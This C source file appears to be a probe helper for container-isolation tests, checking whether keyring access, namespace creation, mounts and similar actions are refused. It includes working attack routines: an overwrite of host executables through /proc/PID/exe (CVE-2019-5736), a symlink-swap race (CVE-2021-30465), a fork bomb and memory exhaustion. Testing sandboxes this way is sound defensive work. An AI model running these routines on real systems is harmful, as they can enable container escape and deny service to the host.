/* A static helper copied into test containers: tries one thing the container must (or must not)
 * allow and prints the outcome. Usage: probe keyctl|unshare-user|unshare-mount|mount|alloc MIB|forkbomb|ids|
 * exchange A B SECONDS|overwrite-exe SECONDS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* A co-tenant's racer (CVE-2021-30465): swaps A and B (a directory and a symlink) as fast as it can. */
static int exchange(const char* a, const char* b, int seconds) {
  time_t end = time(NULL) + seconds;
  long swaps = 0;
  while (time(NULL) < end)
    for (int i = 0; i < 1000; ++i)
      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) == 0) ++swaps;
  printf("%ld swaps\n", swaps);
  return 0;
}

/* CVE-2019-5736: grab /proc/PID/exe of any process that runs a binary from outside the container
 * (the runtime entering it, or run by a "#!/proc/self/exe" script), then keep trying to write it. */
static int overwrite_exe(int seconds) {
  struct stat own, shell;
  if (stat("/proc/self/exe", &own) != 0 || stat("/bin/sh", &shell) != 0) return 2;
  int held[64], count = 0, last_errno = 0;
  time_t end = time(NULL) + seconds;
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    struct dirent* entry;
    while (proc && (entry = readdir(proc)) != NULL && count < 64) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      struct stat st;
      if (fd < 0) continue;
      int known = fstat(fd, &st) != 0 || (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
                  (st.st_dev == shell.st_dev && st.st_ino == shell.st_ino);
      for (int i = 0; i < count && !known; ++i) {
        struct stat other;
        known = fstat(held[i], &other) == 0 && other.st_dev == st.st_dev && other.st_ino == st.st_ino;
      }
      if (known) close(fd);
      else held[count++] = fd;
    }
    if (proc) closedir(proc);
    for (int i = 0; i < count; ++i) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_CLOEXEC);
      if (w >= 0 && pwrite(w, "PWNED", 5, 0) == 5) {
        printf("written\n");
        return 0;
      }
      if (errno != ETXTBSY || !last_errno) last_errno = errno;
      if (w >= 0) close(w);
    }
  }
  if (count == 0) printf("no target\n");
  else printf("refused: %s\n", strerrorname_np(last_errno) ? strerrorname_np(last_errno) : "?");
  return 0;
}

static int outcome(long rc) {
  if (rc < 0) printf("refused: %s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
  else printf("allowed\n");
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  const char* what = argv[1];
  if (!strcmp(what, "keyctl")) return outcome(syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 1));
  if (!strcmp(what, "unshare-user")) return outcome(unshare(CLONE_NEWUSER));
  if (!strcmp(what, "unshare-mount")) return outcome(unshare(CLONE_NEWNS));
  if (!strcmp(what, "mount")) return outcome(mount("/", "/tmp", NULL, MS_BIND, NULL));
  if (!strcmp(what, "join-session") && argc > 3) {  /* join-session NAME PROGRAM ARGS... */
    if (syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, argv[2]) < 0) return outcome(-1);
    execv(argv[3], argv + 3);
    return 127;
  }
  if (!strcmp(what, "session-keyring")) {  /* the name of our session keyring */
    char description[256] = "";
    long n = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3 /* session */, description, sizeof description - 1);
    if (n < 0) return outcome(-1);
    const char* name = strrchr(description, ';');
    printf("%s\n", name ? name + 1 : description);
    return 0;
  }
  if (!strcmp(what, "ids")) {
    printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
    return 0;
  }
  if (!strcmp(what, "alloc") && argc > 2) {
    long mib = atol(argv[2]);
    for (long i = 0; i < mib; ++i) {
      char* block = malloc(1 << 20);
      if (!block) {
        printf("malloc failed at %ld MiB\n", i);
        return 1;
      }
      memset(block, 1, 1 << 20);
    }
    printf("allocated %ld MiB\n", mib);
    return 0;
  }
  if (!strcmp(what, "exchange") && argc > 4) return exchange(argv[2], argv[3], atoi(argv[4]));
  if (!strcmp(what, "overwrite-exe") && argc > 2) return overwrite_exe(atoi(argv[2]));
  if (!strcmp(what, "forkbomb")) {
    int made = 0;
    for (int i = 0; i < 100000; ++i) {
      pid_t pid = fork();
      if (pid == 0) {
        pause();
        _exit(0);
      }
      if (pid < 0) {
        printf("fork refused after %d: %s\n", made, strerrorname_np(errno));
        kill(0, SIGKILL);
        return 0;
      }
      ++made;
    }
    printf("fork bomb not stopped (%d)\n", made);
    kill(0, SIGKILL);
    return 1;
  }
  return 2;
}
